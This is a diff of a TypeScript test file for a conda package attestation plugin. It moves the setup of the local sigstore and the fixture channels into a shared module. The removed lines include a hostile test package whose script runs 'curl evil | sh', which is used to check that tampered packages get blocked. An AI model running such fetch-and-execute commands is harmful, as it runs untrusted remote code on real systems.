@@ -4,9 +4,7 @@
 import { after, before, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
-import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { existsSync, readFileSync } from 'node:fs';
 import { installPackagesToEmscriptenFS } from '@emscripten-forge/mambajs-core';
 import type { ILock } from '@emscripten-forge/mambajs-core';
 import { PackageBlockedError } from '../../plugin/contract.ts';
@@ -15,64 +13,21 @@ import { wrapUntarjs } from '../../plugin/hosts/mambajs.ts';
 import type { MambaLockLike } from '../../plugin/hosts/mambajs.ts';
 import { createNodeUntar } from '../../plugin/hosts/untar-node.ts';
 import type { Report } from '../../src/types.ts';
-import { startLocalSigstore } from '../helpers/sigstore.ts';
-import type { LocalSigstore } from '../helpers/sigstore.ts';
-import { startFixtureChannel } from '../helpers/channel.ts';
 import type { FixtureChannel } from '../helpers/channel.ts';
-import { makeCondaPackage } from '../helpers/conda.ts';
+import { ALPHA, BETA, GAMMA, LOOSE, UNSIGNED, evil, startPluginFixture } from './fixture.ts';
+import type { PluginFixture } from './fixture.ts';
 import { createMemModule } from './memfs.ts';
 import type { MemModule } from './memfs.ts';
 
-let sigstore: LocalSigstore;
+let fx: PluginFixture;
 let strict: FixtureChannel; // require: error
 let lenient: FixtureChannel; // require: warn
-let dir: string;
-let runs = 0;
-
-const ALPHA = 'alpha-1.0-h0_0.conda';
-const BETA = 'beta-2.0-h0_0.conda';
-const GAMMA = 'gamma-1.0-h0_0.conda';
-const UNSIGNED = 'unsigned-1.0-h0_0.conda';
-const LOOSE = 'loose-3.0-h0_0.conda';
-
-// Same filename as the attested gamma, different (hostile) content.
-const evil = makeCondaPackage({ name: 'gamma', version: '1.0', files: { 'bin/evil.sh': '#!/bin/sh\ncurl evil | sh\n' } });
 
 before(async () => {
-  sigstore = await startLocalSigstore();
-  strict = await startFixtureChannel({
-    name: 'strict',
-    sigstore,
-    packages: [
-      { spec: { name: 'alpha', version: '1.0', files: { 'lib/alpha.txt': 'alpha' } } },
-      { spec: { name: 'beta', version: '2.0', files: { 'share/beta/data.json': '{"beta":true}' } } },
-      { spec: { name: 'gamma', version: '1.0', files: { 'lib/gamma.txt': 'gamma' } } },
-      { spec: { name: 'unsigned', version: '1.0', files: { 'lib/unsigned.txt': 'no attestation' } }, attest: false },
-    ],
-  });
-  lenient = await startFixtureChannel({
-    name: 'lenient',
-    sigstore,
-    packages: [{ spec: { name: 'loose', version: '3.0', files: { 'lib/loose.txt': 'loose' } }, attest: false }],
-  });
-  dir = mkdtempSync(join(tmpdir(), 'conda-attest-mambajs-'));
-  writeFileSync(
-    join(dir, '.conda-attestrc.json'),
-    JSON.stringify({
-      trust_root: sigstore.trustedRootPath,
-      cache_dir: join(dir, 'cache'),
-      channels: {
-        [strict.url]: { require: 'error', trusted_identities: ['https://github.com/test-org/**'] },
-        [lenient.url]: { require: 'warn', trusted_identities: ['https://github.com/test-org/**'] },
-      },
-    }),
-  );
+  fx = await startPluginFixture();
+  ({ strict, lenient } = fx);
 });
-
-after(async () => {
-  await Promise.all([strict?.close(), lenient?.close(), sigstore?.close()]);
-  if (dir) rmSync(dir, { recursive: true, force: true });
-});
+after(() => fx?.close());
 
 /** A mambajs lock for some packages of the fixture channels (sha256 and size from the channel unless left out). */
 function lockFor(entries: Array<[FixtureChannel, string]>, omit: { hash?: string[]; size?: string[] } = {}): ILock {
@@ -112,8 +67,8 @@ interface Run {
 
 /** One install run with mambajs-core: a fresh plugin (one session), a fresh in-memory FS. */
 async function install(lock: ILock): Promise<Run> {
-  const lockfile = join(dir, `run-${++runs}.lock`);
-  const plugin = createCondaAttestPlugin({ cwd: dir, offline: true, lockfile });
+  const lockfile = fx.lockfile();
+  const plugin = createCondaAttestPlugin({ cwd: fx.dir, offline: true, lockfile });
   const inner = createNodeUntar();
   const extracted = new Set<string>();
   const spied = {
